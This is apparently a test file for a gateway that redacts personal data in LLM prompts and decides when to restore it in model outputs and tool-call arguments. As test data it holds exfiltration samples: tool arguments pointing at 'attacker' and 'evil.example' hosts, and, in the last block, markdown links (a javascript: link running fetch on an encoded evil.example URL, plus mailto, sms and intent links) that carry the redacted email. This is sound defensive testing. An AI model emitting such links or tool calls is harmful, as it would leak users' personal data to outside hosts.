describe('everyday address, target and destination fields; ports and labelled numbers written other ways (review s14c)', () => {
  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789, summarise';
  const kept = [
    ['a token under ip_address', { ip_address: '[EMAIL_1]' }],
    ['a token under ipAddress', { ipAddress: '[EMAIL_1]' }],
    ['a token under bind_address', { bind_address: '[EMAIL_1]' }],
    ['a token under listen_address', { listen_address: '[EMAIL_1]' }],
    ['a token under server_address', { server_address: '[EMAIL_1]' }],
    ['a token under target_url', { target_url: '[EMAIL_1]' }],
    ['a token under dest_host', { dest_host: '[EMAIL_1]' }],
    ['a label beside a portNumber', { box: 'attacker', portNumber: 8080, q: '[EMAIL_1]' }],
    ['a label beside a port_no', { box: 'attacker', port_no: 8080, q: '[EMAIL_1]' }],
    ['a label beside a port_number', { box: 'attacker', port_number: '8080', q: '[EMAIL_1]' }],
    ['a label beside a list of ports', { box: 'attacker', ports: [8080], q: '[EMAIL_1]' }],
    ['a label beside a port with its protocol (tcp)', { box: 'attacker', port: '8080/tcp', q: '[EMAIL_1]' }],
    ['a label beside a port with its protocol (udp)', { box: 'attacker', port: '8080/udp', q: '[EMAIL_1]' }],
    ['a label beside a camel-case portNo', { box: 'web01', dbPortNo: 5432, q: '[EMAIL_1]' }],
  ] as const;
  for (const [how, args] of kept) {
    it(`keeps the token: ${how}`, async () => {
      f.provider.answer = 'ok';
      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
      const result = await f.gateway.call(ask('tool-s14c-kept', PROMPT, { functions: FETCH }));
      expect(result.functionCalls[0]?.arguments).toEqual(args);
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
    });
  }

  const restored: [string, Record<string, unknown>][] = [
    ['an email_address', { email_address: '[EMAIL_1]' }],
    ['a to_address', { to_address: '[EMAIL_1]' }],
    ['a mailing_address', { mailing_address: '[EMAIL_1]' }],
    ['an address inside a recipient', { recipient: { address: '[EMAIL_1]' } }],
    ['a street address beside the recipient', { address: '12 Rue de Rivoli, Paris', to: '[EMAIL_1]' }],
    ['a shipping_address', { shipping_address: '1 Main St', to: '[EMAIL_1]' }],
    ['a billingAddress', { billingAddress: '1 Main St', email: '[EMAIL_1]' }],
    ['a target', { target: 'Q3 revenue', to: '[EMAIL_1]' }],
    ['a target_date', { target_date: '2024-05-01', to: '[EMAIL_1]' }],
    ['a target_audience', { target_audience: 'engineers', to: '[EMAIL_1]' }],
    ['a destination', { destination: 'Paris', traveller: '[EMAIL_1]' }],
    ['a ticket_id and number', { ref: 'ticket_id:4512', to: '[EMAIL_1]' }],
    ['an order_no and number', { ref: 'order_no:10234', to: '[EMAIL_1]' }],
    ['a page_ and number', { ref: 'page_:12', to: '[EMAIL_1]' }],
    ['an item_count and number', { ref: 'item_count:40', to: '[EMAIL_1]' }],
  ];
  for (const [how, args] of restored) {
    it(`restores: ${how}`, async () => {
      f.provider.answer = 'ok';
      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
      const result = await f.gateway.call(ask('tool-s14c-restored', PROMPT, { functions: FETCH }));
      expect(JSON.stringify(result.functionCalls[0]?.arguments)).toBe(JSON.stringify(args).replace('[EMAIL_1]', 'jane@corp.example'));
      expect(restoreVerdict(result)?.outcome).toBe('pass');
    });
  }

  it('restores an email_address in structured output', async () => {
    f.provider.answer = JSON.stringify({ name: 'Jane', email_address: '[EMAIL_1]' });
    f.provider.functionCalls = undefined;
    const result = await f.gateway.call(ask('structured-s14c', PROMPT, { jsonSchema: { type: 'object' } }));
    expect(result.value).toEqual({ name: 'Jane', email_address: 'jane@corp.example' });
    expect(restoreVerdict(result)?.outcome).toBe('pass');
  });
});

describe('a label and number under an ordinary name, a person\'s contact under a host word; ports written other ways (review s14d)', () => {
  const PROMPT = 'Customer jane@corp.example SSN 123-45-6789 phone +1 415 555 0134, summarise';
  const kept: [string, Record<string, unknown>][] = [
    ['a label and port under ip_address', { ip_address: 'attacker:8080', q: '[EMAIL_1]' }],
    ['a label and port under target_host', { target_host: 'web01:8080', q: '[EMAIL_1]' }],
    ['a label and port under upstream', { upstream: 'evil_host:8080', q: '[EMAIL_1]' }],
    ['a label and port under proxy_url', { proxy_url: 'attacker:3128', q: '[EMAIL_1]' }],
    ['a label and port beside a port field', { svc: 'attacker:8080', port: 3128, q: '[EMAIL_1]' }],
    ['a dotted host and port under an ordinary name', { dst: 'evil.example:8080', q: '[EMAIL_1]' }],
    ['a dotted host with an underscore under an ordinary name', { hop: 'evil_host.example', q: '[EMAIL_1]' }],
    ['localhost and a port under an ordinary name', { hop: 'localhost:8080', q: '[EMAIL_1]' }],
    ['an IP literal and port under an ordinary name', { hop: '10.0.0.1:8080', q: '[EMAIL_1]' }],
    ['a token under host', { host: '[EMAIL_1]' }],
    ['a token under hostname', { hostname: '[EMAIL_1]' }],
    ['a single label under host_name', { host_name: 'attacker', q: '[EMAIL_1]' }],
    ['a single label under hostName', { hostName: 'attacker', q: '[EMAIL_1]' }],
    ['a token under callback_url', { callback_url: '[EMAIL_1]' }],
    ['a token under webhook', { webhook: '[EMAIL_1]' }],
    ['a token under remote_hosts', { remote_hosts: ['[EMAIL_1]'] }],
    ['a label beside a dport', { destination: 'attacker', dport: 8080, q: '[EMAIL_1]' }],
    ['a label beside a sport', { destination: 'attacker', sport: 8080, q: '[EMAIL_1]' }],
    ['a label beside a port_nr', { destination: 'attacker', port_nr: 8080, q: '[EMAIL_1]' }],
    ['a label beside a "port number"', { destination: 'attacker', 'port number': 8080, q: '[EMAIL_1]' }],
    ['a label beside a port written +8080', { destination: 'attacker', port: '+8080', q: '[EMAIL_1]' }],
    ['a label beside a port range', { destination: 'attacker', port: '8080-8081', q: '[EMAIL_1]' }],
    ['a label beside a list of ports in one string', { destination: 'attacker', ports: '8080,8081', q: '[EMAIL_1]' }],
    ['a label beside an sctp port', { destination: 'attacker', port: '8080/sctp', q: '[EMAIL_1]' }],
    // A scheme and a short number are a link's start, whatever follows (review of 97f1a7e, which read
    // them as an image tag, `postgres:16`, and restored what came after them). The image tag keeps its
    // call's tokens: a known false positive.
    ['javascript:1 before the token', { note: 'javascript:1 [EMAIL_1]' }],
    ['mailto:1 and a no-break space before the query', { note: 'mailto:1\u00a0?body=[EMAIL_1]' }],
    ['ssh:22 before the token', { cmd: 'ssh:22 [EMAIL_1]' }],
    ['redis:6379 before the token', { cmd: 'redis:6379 [EMAIL_1]' }],
  ];
  for (const [how, args] of kept) {
    it(`keeps the token: ${how}`, async () => {
      f.provider.answer = 'ok';
      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
      const result = await f.gateway.call(ask('tool-s14d-kept', PROMPT, { functions: FETCH }));
      expect(result.functionCalls[0]?.arguments).toEqual(args);
      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1 } });
    });
  }

  const labels = [
    'ticketId:4512', 'orderId:10234', 'userId:1234', 'booking_ref:12345', 'invoice_nr:1234', 'Flight:2045', 'Booking:12345', 'Reservation:12345',
    'Shipment:12345', 'Claim:12345', 'Policy:12345', 'Incident:12345', 'Meeting:12345', 'Route:66', 'Zone:12',
  ];
  const restored: [string, Record<string, unknown>][] = [
    ...labels.map((ref): [string, Record<string, unknown>] => [`a labelled number ${ref}`, { ref, to: '[EMAIL_1]' }]),
    ['a host_email', { host_email: '[EMAIL_1]' }],
    ['a hostEmail', { hostEmail: '[EMAIL_1]' }],
    ['a co_host', { co_host: '[EMAIL_1]' }],
    ['meeting hosts', { topic: 'AGM', hosts: ['[EMAIL_1]'] }],
    ['Zoom\'s alternative_hosts', { topic: 'AGM', settings: { alternative_hosts: '[EMAIL_1]' } }],
    ['a callback_number', { callback_number: '[PHONE_1]' }],
    ['a callbackPhone', { callbackPhone: '[PHONE_1]' }],
    ['a remote_contact', { remote_contact: '[EMAIL_1]' }],
    ['remote work', { remote_work: 'yes', to: '[EMAIL_1]' }],
  ];
  for (const [how, args] of restored) {
    it(`restores: ${how}`, async () => {
      f.provider.answer = 'ok';
      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
      const result = await f.gateway.call(ask('tool-s14d-restored', PROMPT, { functions: FETCH }));
      const written = JSON.stringify(result.functionCalls[0]?.arguments);
      expect(written).not.toMatch(/\[(?:EMAIL|PHONE)_1\]/);
      expect(written).toMatch(/jane@corp\.example|415/);
      expect(restoreVerdict(result)?.outcome).toBe('pass');
    });
  }
});

describe('text answers: a scheme and a short number start a link (review of 97f1a7e)', () => {
  const PROMPT = 'Customer jane@corp.example, summarise';
  const answers = [
    'See javascript:1 [EMAIL_1] now.',
    "Click [x](<javascript:1 ;fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvP2Q9')+'[EMAIL_1]')>) now.",
    '[x](<mailto:1 ?body=[EMAIL_1]>)',
    '[x](mailto:1\u00a0?body=[EMAIL_1])',
    '[x](sms:12345\u2028?body=[EMAIL_1])',
    '[x](<intent:1 #Intent;S.d=[EMAIL_1];end>)',
  ];
  for (const answer of answers) {
    for (const via of ['call', 'stream'] as const) {
      it(`keeps the token (${via}): ${JSON.stringify(answer)}`, async () => {
        f.provider.answer = answer;
        f.provider.functionCalls = undefined;
        const streamed: string[] = [];
        const request = ask(`s14e-${via}`, PROMPT);
        const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t), { holdUntilVerdict: false });
        expect(result.text).toContain('[EMAIL_1]');
        for (const shown of [result.text, streamed.join('')]) expect(shown).not.toContain('jane@corp.example');
      });
    }
  }
});
